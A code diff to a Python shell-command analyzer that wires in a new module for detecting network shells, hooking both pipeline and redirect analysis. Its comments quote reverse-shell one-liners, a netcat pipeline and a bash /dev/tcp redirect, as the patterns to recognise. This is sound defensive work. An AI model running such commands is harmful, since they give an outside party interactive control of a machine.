@@ -492,6 +492,8 @@ class ShellAnalyzer:
         prev = None
         prev_in = None  # what the previous stage reads: its output may be computed from it (decode.py)
         stages = [c for c in node.named_children]
+        # `cat f | sh -i 2>&1 | nc H P > f`: a shell reading what a network client receives
+        netshell.pipeline(self, [_node_text(st).split() for st in stages], _node_text(node))
         for i, st in enumerate(stages):
             stdin = None
             if i > 0:
@@ -748,7 +750,10 @@ class ShellAnalyzer:
             for op, target in reds:  # `: > f`, `echo '' > f`: the file is left empty
                 if op in (">", ">|", "&>"):
                     programs.empties(self, cmd, target)
+        net = netshell.redirect(self, cmd, reds)  # `bash -i >& /dev/tcp/H/P`: a connection, not a file
         for op, target in reds:
+            if target in net:
+                continue
             if op == "<":
                 programs.check_read(self, cmd, target)
             elif op in (">>", "&>>"):
@@ -2040,4 +2045,5 @@ def _keys_only(words):
 
 # The program handlers import this module (Cmd, Scope): imported last, once, instead of inside the
 # functions that dispatch to them (a function-level import costs ~1 µs on every call).
+from . import netshell  # noqa: E402
 from . import programs  # noqa: E402
